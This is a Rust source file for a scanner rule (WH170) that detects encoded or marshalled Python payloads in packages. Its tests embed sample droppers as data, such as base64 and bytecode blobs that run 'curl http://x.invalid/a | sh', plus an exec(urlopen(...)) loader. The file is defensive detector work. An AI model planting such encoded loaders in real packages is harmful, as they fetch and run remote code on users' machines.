//! WH170 encoded-payload: base64/hex/zlib/marshal blobs and the calls that decode them.

use ruff_python_ast::ExprCall;
use ruff_text_size::{Ranged, TextRange};

use crate::decode::Codec;
use crate::finding::{Category, ExecContext, Rule};
use crate::fold::codec_of;
use crate::walker::Checker;

/// The detector.
pub const RULE: Rule = Rule {
    id: "WH170",
    name: "encoded-payload",
    description: "Decodes an embedded blob (base64, base32/85, hex, zlib, gzip, bz2, lzma, marshal), especially one that holds Python code",
    rationale: "Encoding hides the payload from readers and pattern scanners. Libraries decode data \
                they receive, which weighs nothing; a literal that decodes to Python source or to a \
                marshalled code object is a hidden program and is analysed as its own layer (a \
                code object is read, never run, and its bytecode rendered back to source).",
    category: Category::Anomaly,
};

/// Heuristic: does decoded text look like Python source?
pub fn looks_like_python(text: &str) -> bool {
    if text.len() < 12 {
        return false;
    }
    let sample: String = text.chars().take(4096).collect();
    let printable = sample
        .chars()
        .filter(|c| !c.is_control() || matches!(c, '\n' | '\r' | '\t'))
        .count();
    if printable * 100 < sample.chars().count() * 95 {
        return false;
    }
    const MARKERS: &[&str] = &[
        "import ",
        "exec(",
        "eval(",
        "def ",
        "print(",
        "os.system",
        "subprocess",
        "__import__",
        "lambda ",
        "class ",
        "requests.",
        "urlopen",
        "socket.",
    ];
    MARKERS.iter().any(|m| sample.contains(m))
}

/// `f.write("import os; ...")`: Python source written to a file is a program waiting to be run
/// (droppers write a script, then start it); analyse it as a layer of this file.
fn check_written_code(checker: &mut Checker, call: &ExprCall, qualname: &str) {
    if !(qualname.ends_with(".write")
        || qualname.ends_with(".write_text")
        || qualname.ends_with(".write_bytes"))
    {
        return;
    }
    let Some(arg) = call.arguments.args.first() else {
        return;
    };
    let Some(text) = checker.fold(arg).and_then(|v| v.as_text()) else {
        return;
    };
    if text.len() > 16 && looks_like_python(&text) {
        checker.push_layer(
            text,
            call.range(),
            format!("Python source written to a file by {qualname}"),
        );
    }
}

/// Decoding calls.
pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
    check_written_code(checker, call, qualname);
    let is_marshal = qualname == "marshal.loads";
    if codec_of(qualname).is_none() && !is_marshal && qualname != "codecs.decode" {
        return;
    }
    let Some(arg) = call.arguments.args.first() else {
        return;
    };
    let context = checker.context();
    let weak = matches!(context, ExecContext::Runtime | ExecContext::TestOrDocs);
    let Some(input) = checker.fold(arg).and_then(|v| v.as_bytes()) else {
        if is_marshal {
            // Build tools and caches load bytecode they wrote themselves; only embedded blobs are hidden code.
            checker.report(
                &RULE,
                call.range(),
                "unmarshals a code object computed at run time".to_owned(),
                if weak { 0.03 } else { 0.1 },
                vec!["marshal"],
            );
        }
        return;
    };
    if is_marshal {
        let message = match checker.scopes.unmarshal(&input) {
            Some(source) => {
                let summary = code_summary(&source);
                checker.push_layer(
                    source,
                    call.range(),
                    "a code object read from marshal.loads (rendered from its bytecode, never run)"
                        .to_owned(),
                );
                format!(
                    "unmarshals an embedded {}-byte code object{summary} (analysed as a layer)",
                    input.len()
                )
            }
            None => format!("unmarshals an embedded {}-byte code object", input.len()),
        };
        checker.report(
            &RULE,
            call.range(),
            message,
            if context == ExecContext::TestOrDocs {
                0.3
            } else {
                0.75
            },
            vec!["marshal", "hidden-code"],
        );
        return;
    }
    let Some(decoded) = checker
        .fold(&ruff_python_ast::Expr::Call(call.clone()))
        .and_then(|v| v.as_bytes())
    else {
        return;
    };
    let text = String::from_utf8_lossy(&decoded).into_owned();
    if looks_like_python(&text) {
        checker.push_layer(text, call.range(), format!("decoded by {qualname}"));
        checker.report(
            &RULE,
            call.range(),
            format!(
                "{qualname} decodes a {}-byte literal into Python code (analysed as a layer)",
                input.len()
            ),
            if context == ExecContext::TestOrDocs {
                0.2
            } else {
                0.55
            },
            vec!["decoded-python", "hidden-code"],
        );
    } else if input.len() >= 64 {
        checker.report(
            &RULE,
            call.range(),
            format!("{qualname} decodes a {}-byte embedded blob", input.len()),
            if weak { 0.02 } else { 0.08 },
            vec!["decoded-blob"],
        );
    }
}

/// Names of what a rendered code object imports and calls, for the evidence message:
/// ` that imports os, urllib.request and calls os.system, exec`.
fn code_summary(source: &str) -> String {
    let mut imports: Vec<&str> = Vec::new();
    let mut calls: Vec<&str> = Vec::new();
    for line in source.lines().take(20_000) {
        for statement in line.split("; ") {
            let statement = statement.trim_start();
            if statement.starts_with("def ") || statement.starts_with("class ") {
                continue;
            }
            if let Some(rest) = statement
                .strip_prefix("import ")
                .or_else(|| statement.strip_prefix("from "))
            {
                let module = rest.split([' ', ',']).next().unwrap_or("");
                if !module.is_empty() && !imports.contains(&module) && imports.len() < 8 {
                    imports.push(module);
                }
                continue;
            }
            let callee = statement
                .split_once('(')
                .map(|(head, _)| head.rsplit([' ', '=']).next().unwrap_or(head));
            if let Some(callee) = callee.filter(|c| {
                !c.is_empty()
                    && c.chars()
                        .all(|ch| ch.is_alphanumeric() || ch == '_' || ch == '.')
            }) && !calls.contains(&callee)
                && calls.len() < 8
            {
                calls.push(callee);
            }
        }
    }
    let mut out = String::new();
    if !imports.is_empty() {
        out.push_str(" that imports ");
        out.push_str(&imports.join(", "));
    }
    if !calls.is_empty() {
        out.push_str(if imports.is_empty() {
            " that calls "
        } else {
            " and calls "
        });
        out.push_str(&calls.join(", "));
    }
    out
}

/// Long literals that decode to Python even when the decoding call is hidden.
pub fn check_string(checker: &mut Checker, value: &str, range: TextRange) {
    if value.len() < 80 || value.len() > checker.scopes.max_decode_bytes() {
        return;
    }
    let compact: Vec<u8> = value.bytes().filter(|b| !b.is_ascii_whitespace()).collect();
    let base64_alphabet = compact
        .iter()
        .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_'));
    if !base64_alphabet || compact.len() < 80 {
        return;
    }
    let codec = if compact.iter().all(u8::is_ascii_hexdigit) {
        Codec::Hex
    } else {
        Codec::Base64
    };
    let Some(mut decoded) = checker.scopes.decode(codec, &compact) else {
        return;
    };
    // Compressed-then-encoded payloads are common: peel one compression layer if present.
    for inner in [Codec::Zlib, Codec::Gzip, Codec::Bzip2, Codec::Lzma] {
        if let Some(out) = checker.scopes.decode(inner, &decoded) {
            decoded = out;
            break;
        }
    }
    let text = String::from_utf8_lossy(&decoded).into_owned();
    if !looks_like_python(&text) {
        return;
    }
    let start = range.start();
    let _ = start;
    checker.push_layer(text, range, format!("{} literal", codec.name()));
    let context = checker.context();
    checker.report(
        &RULE,
        range,
        format!(
            "a {}-character {} literal holds Python code (analysed as a layer)",
            value.len(),
            codec.name()
        ),
        if context == ExecContext::TestOrDocs {
            0.15
        } else {
            0.4
        },
        vec!["decoded-python", "hidden-code"],
    );
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
    use super::*;
    use crate::rules::testing::{findings, max_severity};

    #[test]
    fn hidden_python_is_decoded_and_analysed() {
        // base64 of "import os\nos.system('curl http://x.invalid/a | sh')\n"
        let code = "import base64\np = base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCBodHRwOi8veC5pbnZhbGlkL2EgfCBzaCcpCg==')\n";
        assert!(max_severity("p/pkg/__init__.py", code, "WH170") >= 0.5);
        let layered: Vec<_> = findings("p/pkg/__init__.py", code)
            .into_iter()
            .filter(|f| f.path.contains("#layer"))
            .collect();
        assert!(layered.iter().any(|f| f.rule == "WH120"), "{layered:?}");
    }

    #[test]
    fn python_written_to_a_file_is_analysed() {
        let code = "import tempfile\nt = tempfile.NamedTemporaryFile(delete=False)\nt.write(b\"from urllib.request import urlopen;exec(urlopen('https://x.invalid/raw').read())\")\n";
        assert!(max_severity("p/setup.py", code, "WH110") >= 0.9);
    }

    #[test]
    fn multi_step_wrappers_fold() {
        let code = "import base64, os\ndef b64d(s):\n    b = s.encode('ascii')\n    c = base64.b64decode(b)\n    return c.decode('ascii')\nos.system(b64d('Y3VybCBodHRwOi8veC5pbnZhbGlkL2EgfCBzaA=='))\n";
        assert!(max_severity("p/setup.py", code, "WH120") >= 0.9);
    }

    /// CPython 3.11 `marshal.dumps(compile('import os\nos.system("curl x|sh")', 'f', 'exec'))`.
    const SYSTEM_CODE: &str = "630000000000000000000000000300000000000000f32e0000009700640064016c005a00020065006a0100000000000000006402a6010000ab0100000000000000000100640153002903e9000000004e7a096375726c20787c73682902da026f73da0673797374656da900f300000000da0166fa083c6d6f64756c653e7207000000010000007326000000f003010101d80009800980098009d8000980028409882bd10016d40016d00016d00016d000167205000000";
    /// The same for `def add(a, b): return a + b` and `VERSION = "1.0"`.
    const HARMLESS_CODE: &str = "630000000000000000000000000100000000000000f3100000009700640084005a0064015a01640253002903630200000000000000000000000200000003000000f30c00000097007c007c017a000000530029014ea9002902da0161da016273020000002020da016dda03616464720600000001000000730b0000008000d80b0c88718935804cf3000000007a03312e304e29027206000000da0756455253494f4e720200000072070000007205000000fa083c6d6f64756c653e720900000001000000731d000000f003010101f002010111f000010111f000010111e00a0f8007800780077207000000";

    #[test]
    fn marshalled_code_objects_are_read_and_analysed() {
        let code = format!("import marshal\nexec(marshal.loads(bytes.fromhex('{SYSTEM_CODE}')))\n");
        let all = findings("p/pkg/__init__.py", &code);
        let layered = all
            .iter()
            .find(|f| f.path.contains("#layer") && f.rule == "WH120")
            .expect("the code object's os.system call is analysed");
        assert!(layered.severity >= 0.85, "{layered:?}");
        assert_eq!(layered.line, 2);
        assert!(
            all.iter()
                .any(|f| f.rule == "WH170" && f.message.contains("imports os and calls os.system")),
            "{all:?}"
        );
        // Wrapped in a decoder lambda and compressed, as obfuscators write it.
        let data = crate::decode::decode(Codec::Hex, SYSTEM_CODE.as_bytes()).unwrap();
        let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        std::io::Write::write_all(&mut z, &data).unwrap();
        let blob = crate::bytecode::bytes_literal(&z.finish().unwrap());
        let code = format!(
            "_ = lambda b: __import__('marshal').loads(__import__('zlib').decompress(b))\nexec(_({blob}))\n"
        );
        assert!(max_severity("p/pkg/__init__.py", &code, "WH120") >= 0.85);
    }

    #[test]
    fn harmless_or_computed_code_objects_weigh_little() {
        let code =
            format!("import marshal\nexec(marshal.loads(bytes.fromhex('{HARMLESS_CODE}')))\n");
        let all = findings("p/pkg/__init__.py", &code);
        assert!(
            !all.iter()
                .any(|f| f.path.contains("#layer") && matches!(f.rule, "WH120" | "WH130" | "WH140")),
            "{all:?}"
        );
        let code = "import marshal\ndef load(path):\n    with open(path, 'rb') as f:\n        return marshal.loads(f.read()[16:])\n";
        assert!(max_severity("p/pkg/cache.py", code, "WH170") < 0.05);
        // Bytes that are no code object give no layer.
        let code = "import marshal\nx = marshal.loads(b'\\xe3\\x00\\x01')\n";
        assert!(
            findings("p/pkg/m.py", code)
                .iter()
                .all(|f| !f.path.contains("#layer"))
        );
    }

    #[test]
    fn data_blobs_weigh_little() {
        let code = "import base64\ndef icon():\n    return base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==')\n";
        assert!(max_severity("p/pkg/img.py", code, "WH170") < 0.05);
        assert!(!looks_like_python("\u{1}\u{2}\u{3}binary junk import"));
    }
}
